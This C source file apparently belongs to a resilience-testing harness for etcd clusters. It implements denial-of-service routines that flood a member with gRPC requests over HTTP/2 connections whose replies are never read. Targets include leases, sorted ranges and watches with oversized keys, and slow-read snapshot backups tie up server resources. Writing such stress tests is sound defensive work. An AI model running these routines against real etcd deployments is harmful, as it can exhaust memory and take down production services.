/* Replies that are never read, or slowly. */
#include "cluster/attacks_int.h"

#include "pb/codec.h"
#include "pb/etcd_messages.h"

#include <poll.h>
#include <string.h>

enum {
    UNREAD_LINES = 10,
    UNREAD_REQUESTS = 60,
    BACKUPS = 4,
    BACKUP_BYTES_PER_S = 2700, /* of each */
};

/* Many requests on each of some connections, whose windows are as wide as can be. Then nothing is
 * read until the member has had enough. */
static void leave_unread(struct attacker *a, const char *path, struct bytes message)
{
    struct raw_h2 lines[UNREAD_LINES];

    for (unsigned i = 0; i < UNREAD_LINES; i++)
        lines[i] = (struct raw_h2){.fd = -1};
    for (;; attacker_pause_ms(100))
        for (unsigned i = 0; i < UNREAD_LINES; i++) {
            struct raw_h2 *r = &lines[i];
            struct pollfd p = {.fd = r->fd, .events = POLLRDHUP};
            if (r->fd >= 0 && poll(&p, 1, 0) == 0)
                continue;
            raw_h2_close(r);
            if (!raw_h2_open(r, a->context, a->ports.client, RAW_H2_WINDOW_MAX))
                continue;
            for (unsigned k = 0; k < UNREAD_REQUESTS; k++)
                if (raw_h2_request(r, path, NULL, NULL, message))
                    attacker_made(a);
        }
}

static void leave_message_unread(struct attacker *a, const char *path,
                                 const struct pb_schema *schema, const void *message)
{
    struct buf wire = {0};

    pb_encode(schema, message, &wire);
    leave_unread(a, path, buf_bytes(&wire));
}

void attack_by_unread_keys_of_a_lease(struct attacker *a)
{
    leave_message_unread(a, "/etcdserverpb.Lease/LeaseTimeToLive",
                         &pb_lease_time_to_live_request_schema,
                         &(struct pb_lease_time_to_live_request){.id = SIEGE_LEASE, .keys = true});
}

void attack_by_unread_sorted_ranges(struct attacker *a)
{
    leave_message_unread(a, "/etcdserverpb.KV/Range", &pb_range_request_schema,
                         &(struct pb_range_request){.key = BYTES(SIEGE_PREFIX),
                                                    .range_end = BYTES("siege0"),
                                                    .sort_order = PB_SORT_DESCEND,
                                                    .sort_target = PB_SORT_BY_VALUE});
}

void attack_by_unread_leases(struct attacker *a)
{
    leave_unread(a, "/etcdserverpb.Lease/LeaseLeases", bytes_of(NULL, 0));
}

void attack_by_unread_watches(struct attacker *a)
{
    static uint8_t key[8192];
    struct pb_watch_create_request create = {
        .key = bytes_of(key, sizeof(key)), .range_end = BYTES("\xff"), .prev_kv = true};

    memset(key, 'a', sizeof(key));
    leave_message_unread(a, "/etcdserverpb.Watch/Watch", &pb_watch_request_schema,
                         &(struct pb_watch_request){.which = PB_WATCH_CREATE, .create = &create});
}

static bool begin_backup(struct attacker *a, struct raw_h2 *r)
{
    if (!raw_h2_open(r, a->context, a->ports.client, RAW_H2_WINDOW_USUAL))
        return false;
    attacker_made(a);
    return raw_h2_request(r, "/etcdserverpb.Maintenance/Snapshot", NULL, NULL, bytes_of(NULL, 0));
}

void attack_by_slow_backups(struct attacker *a)
{
    struct raw_h2 backups[BACKUPS];
    size_t got;

    for (unsigned i = 0; i < BACKUPS; i++)
        backups[i] = (struct raw_h2){.fd = -1};
    for (;; attacker_pause_ms(1000))
        for (unsigned i = 0; i < BACKUPS; i++) {
            struct raw_h2 *r = &backups[i];
            bool is_well = r->fd >= 0 || begin_backup(a, r);
            is_well = is_well && raw_h2_read(r, BACKUP_BYTES_PER_S, &got) &&
                      raw_h2_allow(r, BACKUP_BYTES_PER_S);
            if (!is_well)
                raw_h2_close(r);
        }
}
